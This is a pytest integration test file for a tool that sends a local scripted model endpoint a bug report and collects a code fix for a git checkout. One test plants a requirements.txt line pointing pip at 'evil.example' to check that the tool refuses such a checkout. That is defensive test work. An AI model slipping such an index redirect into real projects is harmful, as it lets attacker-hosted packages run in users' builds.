"""``runoff fix`` from the command to the patch: a real checkout, real sandboxes, a scripted endpoint on loopback."""

import json
import os
import re
import signal
import subprocess
import sys
import threading
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path

import docker_images
import pytest
from forked_python import ForkedPython

from agent.models.contract import ModelError
from environments.sandboxes.contract import SandboxError
from swebench_runs.checkouts.fixing import _ended
from swebench_runs.exit_codes import exit_code
from swebench_runs.many_tasks.batch.batch import BatchResult

ISSUE = """double() is one too high

```python
>>> from m import double
>>> double(2)
5
```

I expected `4`.
"""
BUG, FIX = "    return x + x + 1", "    return x + x"
EDIT = f"m.py\n<<<<<<< SEARCH\n{BUG}\n=======\n{FIX}\n>>>>>>> REPLACE\n"
FAILING = "from m import double\n\n\ndef test_double():\n    assert double(2) == 4\n"
TEST = "```python\nimport sys\nfrom m import double\nif double(3) != 6:\n    issue_present()\n```"


SMALL = ("--trajectories", "1", "--tests", "0")


class Endpoint(ThreadingHTTPServer):
    """Answers with the right edit and a right test; holds the answers back while ``gate`` is closed."""

    daemon_threads = True

    def __init__(self):
        super().__init__(("127.0.0.1", 0), Handler)
        self.requests = []
        self.status = 200
        self.asked, self.gate = threading.Event(), threading.Event()
        self.gate.set()
        threading.Thread(target=self.serve_forever, daemon=True).start()

    @property
    def address(self):
        return f"http://127.0.0.1:{self.server_port}/v1"


class Handler(BaseHTTPRequestHandler):
    def do_POST(self):
        request = json.loads(self.rfile.read(int(self.headers["content-length"])))
        self.server.requests.append(json.dumps(request["messages"]))
        self.server.asked.set()
        self.server.gate.wait(600)
        last = request["messages"][-1]["content"]
        content = TEST if "Write a test" in last else "DONE" if "DONE if" in last else EDIT
        choice = {"index": 0, "message": {"role": "assistant", "content": content}, "finish_reason": "stop"}
        usage = {"prompt_tokens": 10, "completion_tokens": 5, "total_tokens": 15}
        body = json.dumps({"id": "1", "object": "chat.completion", "model": "m", "choices": [choice], "usage": usage})
        self.send_response(self.server.status)
        self.send_header("content-type", "application/json")
        self.send_header("content-length", str(len(body)))
        self.end_headers()
        self.wfile.write(body.encode())

    def log_message(self, *_):
        pass


@pytest.fixture
def endpoint():
    with Endpoint() as server:
        yield server
        server.gate.set()
        server.shutdown()


@pytest.fixture
def checkout(tmp_path):
    root = tmp_path / "project"
    (root / "tests").mkdir(parents=True)
    (root / "m.py").write_text(f"def double(x):\n{BUG}\n\n\ndef one():\n    return 1\n")
    (root / "tests/test_m.py").write_text("from m import one\n\n\ndef test_one():\n    assert one() == 1\n")
    git(root, "init", "-q")
    git(root, "add", ".")
    git(root, "-c", "user.name=t", "-c", "user.email=t@t", "commit", "-q", "-m", "start")
    (root / "m.py").write_text((root / "m.py").read_text() + "\n\nLOCAL = 'not committed'\n")
    (root / "notes.txt").write_text("not tracked\n")
    return root


def git(folder, *arguments):
    return subprocess.run(["git", *arguments], cwd=folder, capture_output=True, check=True, text=True).stdout


def state(root):
    return git(root, "status", "--porcelain"), {p.name: p.read_bytes() for p in root.rglob("*.*") if p.is_file()}


def arguments(checkout, endpoint, *more, issue=True):
    (checkout.parent / "issue.md").write_text(ISSUE)
    options = ["-m", "openai/scripted", "-c", f"api_base={endpoint.address}", "--trajectories", "2", "--tests", "1"]
    told = ["--issue", str(checkout.parent / "issue.md")] if issue else []
    return ["fix", str(checkout), *told, *options, "-w", "2", *more]


def environment(tmp_path):
    own = {"XDG_STATE_HOME": str(tmp_path / "home"), "RUNOFF_STATE": str(tmp_path / "s"), "OPENAI_API_KEY": "none"}
    return {**os.environ, **own}


MAIN = "from swebench_runs.cli import main; main()"


@pytest.fixture(scope="module")
def forked():
    python = ForkedPython()
    yield python
    python.close()


@pytest.fixture
def fix(checkout, endpoint, forked):
    """Runs ``runoff fix`` on the checkout in a process of its own."""

    def run(*more, issue=True, code=MAIN):
        given = arguments(checkout, endpoint, *more, issue=issue)
        return forked.run(code, given, cwd=checkout.parent, env=environment(checkout.parent))

    return run


def test_a_patch_that_applies_and_an_untouched_checkout(checkout, endpoint, fix):
    before = state(checkout)
    done = fix()
    assert done.returncode == 0, done.stderr
    assert state(checkout) == before
    assert "Answer: a patch of 2 lines in m.py, confidence" in done.stderr
    assert re.search(r"^Tried: .*^Took: \d+ calls?, .*^The whole record: ", done.stderr, re.MULTILINE | re.DOTALL)
    assert "not graded" not in done.stderr
    assert f"-{BUG}\n+{FIX}\n" in done.stdout
    subprocess.run(["git", "apply", "-"], input=done.stdout, text=True, cwd=checkout, check=True)
    assert "LOCAL = 'not committed'" in (checkout / "m.py").read_text()
    assert list((checkout.parent / "s").glob("*")) == []

    asked = len(endpoint.requests)
    git(checkout, "apply", "-R", str(write(checkout.parent / "p.diff", done.stdout)))
    again = fix("--apply", "-o", checkout.parent / "out.patch")
    assert again.returncode == 0, again.stderr
    assert len(endpoint.requests) == asked
    assert again.stdout == ""
    assert (checkout.parent / "out.patch").read_text() == done.stdout
    assert FIX + "\n" in (checkout / "m.py").read_text()


def test_a_failing_test_alone_is_an_issue(checkout, endpoint, fix):
    (checkout / "tests/test_double.py").write_text(FAILING)
    named = ["--failing-test", "tests/test_double.py::test_double"]
    done = fix(*SMALL, *named, issue=False)
    assert done.returncode == 0, done.stderr
    assert f"-{BUG}\n+{FIX}\n" in done.stdout
    assert "passes 1 of 1 reproducing tests" in done.stderr
    assert "assert double(2) == 4" in endpoint.requests[0]
    assert "assert 5 == 4" in endpoint.requests[0]
    [record] = (checkout.parent / "home").glob("runoff/fix/*/tasks/*/executions.jsonl")
    runs = [json.loads(line) for line in record.read_text().splitlines()[1:3]]
    assert [(run["patch"], run["repeat"], run["test"] == "suite") for run in runs] == [
        ("base", n, False) for n in (0, 1)
    ]
    asked = len(endpoint.requests)
    again = fix(*SMALL, *named, issue=False)
    assert (again.returncode, again.stdout, len(endpoint.requests)) == (0, done.stdout, asked)


def test_neither_issue_nor_test_is_one_line(checkout, endpoint, fix):
    done = fix(issue=False)
    assert (done.returncode, done.stderr.count("\n")) == (2, 1)
    assert "--issue FILE, or --failing-test" in done.stderr


def write(path, text):
    path.write_text(text)
    return path


@pytest.mark.parametrize("number", [signal.SIGINT, signal.SIGKILL])
def test_an_interrupted_fix_resumes_and_asks_nothing_twice(checkout, endpoint, fix, number):
    endpoint.gate.clear()
    command = [sys.executable, "-c", MAIN, *arguments(checkout, endpoint, *SMALL)]
    process = subprocess.Popen(command, stdout=-1, stderr=-1, text=True, env=environment(checkout.parent))
    assert endpoint.asked.wait(120)
    process.send_signal(number)
    _, told = process.communicate(timeout=60)  # its model call is held back for ten minutes
    assert process.returncode == (130 if number != signal.SIGKILL else -9), told
    in_flight = len(endpoint.requests)
    endpoint.gate.set()
    done = fix(*SMALL)
    assert done.returncode == 0, done.stderr
    assert f"+{FIX}" in done.stdout
    assert len(endpoint.requests) <= len(set(endpoint.requests)) + in_flight
    assert list((checkout.parent / "s").glob("*")) == []


def test_a_fix_that_fails_after_its_trajectories_hands_over_the_best_patch_so_far(checkout, endpoint, fix):
    broken = (
        "from swebench_runs.one_task import stages\n"
        "def vote(*_): raise OSError(28, 'No space left on device')\n"
        f"stages.vote = vote\n{MAIN}"
    )
    done = fix(*SMALL, "--apply", code=broken)
    assert done.returncode == 1, done.stderr
    assert "Not done: [Errno 28] No space left on device" in done.stderr
    assert "The best patch so far, of edit-" in done.stderr
    assert "Not applied" in done.stderr
    assert f"-{BUG}\n+{FIX}\n" in done.stdout
    assert fix(*SMALL).returncode == 0


def test_a_refused_key_is_one_line(checkout, endpoint, fix):
    endpoint.status = 401
    done = fix(*SMALL)
    assert done.returncode == 2
    assert "Traceback" not in done.stderr
    last = done.stderr.splitlines()[-1]
    assert "refuses the API key" in last
    assert last.endswith("(what was done is saved; once that is changed, the command goes on where it was)")
    assert len(endpoint.requests) <= 2


@pytest.mark.parametrize(
    ("cause", "code"), [(ModelError("down"), 3), (SandboxError("gone"), 3), (OSError(28, "full"), 1), (KeyError(), 1)]
)
def test_a_failure_that_ends_the_work_has_its_own_exit_code(cause, code):
    error = _ended("edit-0: why", BatchResult(failed={"t": "why"}, causes={"t": cause}))
    assert (str(error), exit_code(error)) == ("edit-0: why (the same command resumes)", code)


def test_an_endpoint_that_is_not_there_is_told_before_anything_is_made(checkout, endpoint, fix):
    endpoint.shutdown()
    endpoint.server_close()
    absent = fix(*SMALL, "-c", "retry_seconds=0.1")
    assert absent.returncode == 3, absent.stderr
    assert f"nobody answers at {endpoint.address}" in absent.stderr.splitlines()[-1]
    assert not (checkout.parent / "home").exists()


def test_a_money_limit_without_a_price_is_refused_before_any_call(checkout, endpoint, fix):
    done = fix("-c", "limits.task.cost=1")
    assert done.returncode == 2
    assert "price.policy" in done.stderr
    assert endpoint.requests == []


def test_a_hostile_checkout_is_refused_before_anything_runs(checkout, endpoint, fix):
    (checkout / "requirements.txt").write_text("--index-url https://evil.example/simple\n")
    done = fix()
    assert done.returncode == 2
    assert "refused" in done.stderr
    assert endpoint.requests == []


@pytest.mark.skipif(not docker_images.possible(), reason=docker_images.WHY_NOT)
def test_a_checkout_with_a_dockerfile(checkout, endpoint, fix):
    """What the code imports is in its image alone, and its requirements could not be installed at all."""
    (checkout / "requirements.txt").write_text("private @ https://example.org/private.whl\n")
    (checkout / "m.py").write_text("import built\n" + (checkout / "m.py").read_text())
    (checkout / "Dockerfile").write_text(
        f"FROM {docker_images.base()}\nRUN ln -s python3 /usr/bin/python\nWORKDIR /app\nCOPY . .\n"
        "RUN touch /usr/lib/python3/dist-packages/built.py\n"
    )
    refused = fix(*SMALL)
    assert refused.returncode == 2
    assert "refused" in refused.stderr
    stopped = fix(*SMALL, "--dockerfile", "./Dockerfile")
    assert (stopped.returncode, len(endpoint.requests)) == (2, 0), stopped.stderr
    last = stopped.stderr.splitlines()[-1]
    assert "pytest is not installed there): install what the tests need in Dockerfile" in last
    done = fix(*SMALL, "--dockerfile", "./Dockerfile", "--force")
    assert done.returncode == 0, done.stderr
    assert f"-{BUG}\n+{FIX}\n" in done.stdout
    assert "passes 1 of 1 reproducing tests" in done.stderr
    record = Path(re.search("The whole record: (.*)", done.stderr.replace("\n", ""))[1])
    made = [line for path in record.rglob("events.jsonl") for line in map(json.loads, path.open())]
    assert [line["sandbox"] for line in made if line["event"] == "sandbox"] == ["bubblewrap"] * 2  # stopped, and forced


def test_bad_ground_stops_before_the_first_call_and_force_goes_on(checkout, endpoint, fix):
    (checkout / "m.py").write_text("import nowhere_at_all\n\n\n" + (checkout / "m.py").read_text())
    done = fix(*SMALL)
    assert (done.returncode, len(endpoint.requests)) == (2, 0)
    assert "Traceback" not in done.stderr
    last = done.stderr.splitlines()[-1]
    assert "nowhere_at_all" in last or "nowhere-at-all" in last
    assert "runoff.yaml" in last
    forced = fix(*SMALL, "--force")
    assert endpoint.requests
    assert forced.returncode == 0, forced.stderr


def test_the_start_says_what_was_taken_for_the_project(checkout, endpoint, fix):
    (checkout / "pyproject.toml").write_text('[tool.poetry]\nname = "m"\n[tool.poetry.dependencies]\npython = "^3.9"\n')
    (checkout / "tests/test_bad.py").write_text("import nowhere_at_all\n")
    done = fix(*SMALL)
    assert done.returncode == 0, done.stderr
    said = " ".join(done.stderr.split())
    assert f"project: {checkout}" in said
    assert "with pytest>=7 (from pyproject.toml)" in said
    assert "existing tests: 2 collected, 1 pass, 1 do not" in said
    assert "left out of the existing tests: tests/test_bad.py: ModuleNotFoundError" in said


def test_a_requirement_that_cannot_be_installed_is_exit_3_and_no_call(checkout, endpoint, fix):
    (checkout / "requirements.txt").write_text("pytest==0.0.0.1\n")
    done = fix(*SMALL)
    assert (done.returncode, len(endpoint.requests)) == (3, 0)
    assert "pip could not install" in done.stderr.splitlines()[-1]
